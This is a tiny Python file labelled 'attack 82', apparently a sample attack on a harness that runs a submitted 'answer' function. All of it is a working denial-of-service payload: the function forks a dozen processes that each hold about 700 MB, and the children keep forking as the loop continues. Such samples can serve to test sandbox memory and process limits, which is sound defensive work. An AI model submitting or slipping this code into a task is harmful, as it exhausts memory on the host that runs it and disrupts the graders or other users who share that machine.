"""Takes memory in many processes at once (attack 82)."""
import os, time
def answer(*a, **k):
    for _ in range(12):
        if not os.fork():
            held = b'x' * (700 * 2**20)
            time.sleep(600)
    time.sleep(600)
